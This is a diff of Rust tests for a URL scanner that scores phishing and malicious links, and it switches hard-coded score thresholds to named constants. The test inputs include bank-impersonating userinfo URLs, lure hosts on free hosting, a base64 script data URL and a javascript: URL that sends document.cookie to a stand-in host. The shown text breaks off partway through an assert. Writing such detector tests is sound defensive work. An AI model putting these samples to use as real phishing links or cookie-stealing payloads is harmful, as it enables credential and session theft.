@@ -10,6 +10,18 @@ use waspada_core::format::{Envelope, EnvelopeWriter};
 use waspada_core::rules::{self, RuleInput, Rules};
 use waspada_core::Reason;
 
+/// Normal sensitivity's thresholds.
+const SUSPICIOUS: u8 = 40;
+const DANGEROUS: u8 = 70;
+
+#[test]
+fn thresholds_are_the_scorers() {
+    assert_eq!(
+        waspada_core::score::thresholds(waspada_core::engine::Sensitivity::Normal),
+        (SUSPICIOUS, DANGEROUS)
+    );
+}
+
 struct Data {
     bytes: Vec<u8>,
 }
@@ -90,14 +102,14 @@ fn userinfo_disguised_as_a_domain() {
     assert_eq!(r.params["userinfo"], "bca.co.id");
     assert_eq!(r.params["host"], "evil.top");
     assert!(
-        r.score >= 50,
-        "a domain before @ alone must reach dangerous territory: {r:?}"
+        r.score >= DANGEROUS,
+        "a domain before @ alone is dangerous: {r:?}"
     );
     // Without a scheme, and with a password, it is the same trick.
-    assert!(reason("klikbca.com:login@203.0.113.9/", "url.userinfo").score >= 50);
+    assert!(reason("klikbca.com:login@203.0.113.9/", "url.userinfo").score >= DANGEROUS);
     // Plain credentials are only a hint.
     let plain = reason("https://user:pw@example.com/", "url.userinfo");
-    assert!(plain.score < 30, "{plain:?}");
+    assert!(plain.score < SUSPICIOUS, "{plain:?}");
     // Near miss: an @ in the path is not userinfo.
     assert!(!has("https://medium.com/@someone/post", "url.userinfo"));
 }
@@ -147,7 +159,7 @@ fn scripts_in_internationalised_hosts() {
 fn abused_tlds_add_points_but_never_flag_alone() {
     let r = reason("https://some-shop.top/", "tld.abused");
     assert_eq!(r.params["tld"], "top");
-    assert!(r.score > 0 && r.score < 30);
+    assert!(r.score > 0 && r.score < SUSPICIOUS);
     assert!(has("https://toko-murah.my.id/", "tld.abused"));
     quiet("https://tokopedia.com/");
     // A private suffix under .app is not the .app TLD's fault, nor is `top` as a label.
@@ -170,9 +182,9 @@ fn shorteners_hide_the_destination() {
 fn free_hosting_subdomains() {
     let r = reason("https://bca-mobile-login.pages.dev/", "hosting.free");
     assert_eq!(r.params["suffix"], "pages.dev");
-    assert!(r.score < 30, "hosting alone never flags: {r:?}");
+    assert!(r.score < SUSPICIOUS, "hosting alone never flags: {r:?}");
     // Carrying lure words, it adds up.
-    assert!(total("https://pendaftaran-bansos.vercel.app/") >= 30);
+    assert!(total("https://pendaftaran-bansos.vercel.app/") >= u32::from(SUSPICIOUS));
     // The hosting provider's own site is not a user's page.
     assert!(!has("https://pages.dev/", "hosting.free"));
     assert!(!has("https://vercel.com/docs", "hosting.free"));
@@ -273,7 +285,7 @@ fn gambling_words_respect_word_boundaries() {
     let r = reason("https://slotgacor88.com/", "keyword.gambling");
     assert_eq!(r.params["category"], "gambling");
     assert!(
-        r.score >= 30,
+        r.score >= SUSPICIOUS,
         "an unmistakable gambling host is flagged: {r:?}"
     );
     for host in [
@@ -307,9 +319,9 @@ fn gambling_words_respect_word_boundaries() {
 fn data_and_javascript_navigations() {
     let d = reason("data:text/html;base64,PHNjcmlwdD4=", "scheme.data");
     assert_eq!(d.params["mime"], "text/html");
-    assert!(d.score >= 60);
+    assert!(d.score >= DANGEROUS);
     let img = reason("data:image/png;base64,iVBORw0KGgo=", "scheme.data");
-    assert!(img.score < 30);
+    assert!(img.score < SUSPICIOUS);
     assert!(
         reason(
             "javascript:fetch('//x.top/'+document.cookie)",
